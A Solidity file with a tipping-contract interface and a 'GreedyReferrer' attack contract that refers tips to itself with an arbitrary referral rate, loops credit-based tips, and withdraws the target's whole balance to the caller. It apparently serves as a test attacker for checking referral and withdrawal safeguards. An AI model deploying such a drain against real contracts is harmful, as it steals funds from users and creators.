// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ITips {
    function load() external payable;

    function tip(address creator, address referrer, uint256 referralBps) external payable;

    function tipFromCredit(address creator, address referrer, uint256 value, uint256 referralBps) external;

    function tipMany(address[] calldata creators, address referrer, uint256 referralBps) external payable;

    function withdraw(uint256 amount) external;

    function creditOf(address account) external view returns (uint256);
}

/// Recommends a creator to itself, for many times what it gives.
contract GreedyReferrer {
    function run(ITips tips, address creator, uint256 bps) external payable {
        tips.tip{value: msg.value}(creator, address(this), bps);
        leave(tips, address(tips).balance);
    }

    function runMany(ITips tips, address[] calldata creators, uint256 bps, uint256 amount) external payable {
        tips.tipMany{value: msg.value}(creators, address(this), bps);
        leave(tips, amount);
    }

    function runFromCredit(ITips tips, address creator, uint256 bps, uint256 times) external payable {
        tips.load{value: msg.value}();
        for (uint256 i = 0; i < times; i++) tips.tipFromCredit(creator, address(this), msg.value / 2, bps);
        leave(tips, tips.creditOf(address(this)));
    }

    function leave(ITips tips, uint256 amount) private {
        tips.withdraw(amount);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
